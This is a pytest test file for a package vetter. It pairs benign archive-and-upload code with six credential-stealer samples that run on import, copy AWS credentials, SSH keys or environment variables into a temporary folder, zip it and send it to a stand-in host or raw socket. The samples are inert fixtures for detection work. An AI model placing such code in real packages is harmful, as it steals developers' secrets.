"""Credentials gathered into a folder, the folder archived by ``shutil.make_archive`` and
the archive uploaded by its path (issue 16; ADR 0195).

The stealer's usual packing: copy ``~/.aws``, ``~/.ssh`` or a wallet into
``tempfile.mkdtemp()``, write the environment beside them, ``make_archive`` the folder and
upload the path it returns. A credential file copied was no secret written, and the
archive was a new path made of a folder: it carried nothing. Every sample is inert: vetting
only reads files."""

from __future__ import annotations

from collections.abc import Mapping

import pytest

from airlock.domain.requests import Outcome
from tests.unit.imports.packages.adversary import called_on_import, init, verdict_cases, vet_package

URL = "https://api.pyrelay.net/v1/e"
HEAD = "import glob, json, os, shutil, tempfile, requests\n"


def on_import(body: str) -> dict[str, str]:
    """``__init__.py`` running ``body`` in a function called on import."""
    return called_on_import(HEAD, body)


DENIED: dict[str, Mapping[str, str]] = {
    "aws-folder-copied-into-a-temporary-folder-archived-and-uploaded": on_import(
        "    d = tempfile.mkdtemp()\n"
        "    shutil.copytree(os.path.expanduser('~/.aws'), os.path.join(d, 'aws'))\n"
        "    z = shutil.make_archive(os.path.join(d, 'x'), 'zip', d)\n"
        f"    requests.post({URL!r}, files={{'f': open(z, 'rb')}})\n"
    ),
    "ssh-keys-listed-copied-archived-and-posted": on_import(
        "    d = tempfile.mkdtemp()\n"
        "    for k in glob.glob(os.path.expanduser('~/.ssh/*')):\n        shutil.copy(k, d)\n"
        "    z = shutil.make_archive(d, 'gztar', d)\n"
        f"    requests.post({URL!r}, data=open(z, 'rb').read())\n"
    ),
    "environment-written-into-a-folder-archived-and-sent": on_import(
        "    import urllib.request\n    d = tempfile.mkdtemp(prefix='.c')\n"
        "    with open(os.path.join(d, 'env.json'), 'w') as f:\n"
        "        json.dump(dict(os.environ), f)\n"
        "    z = shutil.make_archive(os.path.join(tempfile.gettempdir(), 'r'), 'zip', root_dir=d)\n"
        f"    with open(z, 'rb') as f:\n        urllib.request.urlopen({URL!r}, data=f.read())\n"
    ),
    "credentials-copied-into-a-temporary-directory-block": on_import(
        "    with tempfile.TemporaryDirectory() as d:\n"
        "        shutil.copy2(os.path.expanduser('~/.aws/credentials'), d)\n"
        "        z = shutil.make_archive(os.path.join(d, 'b'), 'zip', d)\n"
        f"        requests.post({URL!r}, files={{'f': open(z, 'rb')}})\n"
    ),
    "home-archived-with-the-ssh-folder-as-base-then-uploaded-by-its-name": on_import(
        "    shutil.make_archive('/tmp/.k', 'zip', root_dir=os.path.expanduser('~'),"
        " base_dir='.ssh')\n"
        f"    requests.post({URL!r}, files={{'f': open('/tmp/.k.zip', 'rb')}})\n"
    ),
    "key-copied-by-pathlib-archived-and-sent-by-a-socket": on_import(
        "    import pathlib, socket\n    d = pathlib.Path(tempfile.mkdtemp())\n"
        "    (d / 'id').write_bytes((pathlib.Path.home() / '.ssh' / 'id_rsa').read_bytes())\n"
        "    z = shutil.make_archive(str(d), 'zip', d)\n"
        "    socket.create_connection(('203.0.113.7', 443)).sendall(open(z, 'rb').read())\n"
    ),
}
ALLOWED: dict[str, Mapping[str, str]] = {
    # A build archives its own documentation, sent nowhere.
    "setup-archives-its-own-build-folder": {
        "setup.py": (
            "import os, shutil\nfrom setuptools import setup\n"
            "if os.path.isdir('build/html'):\n"
            "    shutil.make_archive('dist/evpkg-docs', 'zip', 'build/html')\nsetup(name='evpkg')\n"
        ),
        "evpkg/__init__.py": "",
    },
    # A deploy tool zips the caller's project and uploads it when called.
    "deploy-tool-zips-a-project-and-uploads-it-when-called": init(
        f"{HEAD}\n\ndef deploy(src, url, token):\n    d = tempfile.mkdtemp()\n"
        "    z = shutil.make_archive(os.path.join(d, 'bundle'), 'zip', src)\n"
        "    return requests.post(url, files={'f': open(z, 'rb')},"
        " headers={'Authorization': token})\n"
    ),
    # The package's own source bundled into a temporary folder and uploaded on import.
    "own-source-bundled-and-uploaded-on-import": on_import(
        "    d = tempfile.mkdtemp()\n"
        "    shutil.copytree(os.path.dirname(__file__), os.path.join(d, 'pkg'))\n"
        "    z = shutil.make_archive(os.path.join(d, 'bundle'), 'zip', d)\n"
        f"    requests.post({URL!r}, files={{'f': open(z, 'rb')}})\n"
    ),
    # A crash report written into a folder, zipped and sent when called.
    "crash-report-zipped-and-sent-when-called": init(
        f"{HEAD}\n\ndef report(exc):\n    d = tempfile.mkdtemp()\n"
        "    with open(os.path.join(d, 'trace.txt'), 'w') as f:\n        f.write(repr(exc))\n"
        "    z = shutil.make_archive(os.path.join(d, 'r'), 'zip', d)\n"
        "    requests.post('https://crash.mysvc.example/r', files={'f': open(z, 'rb')})\n"
    ),
}


@pytest.mark.parametrize(("files", "expected"), verdict_cases(DENIED, {}, ALLOWED))
def test_secrets_archived_from_a_folder(files: Mapping[str, str], expected: Outcome) -> None:
    assert vet_package(files) is expected
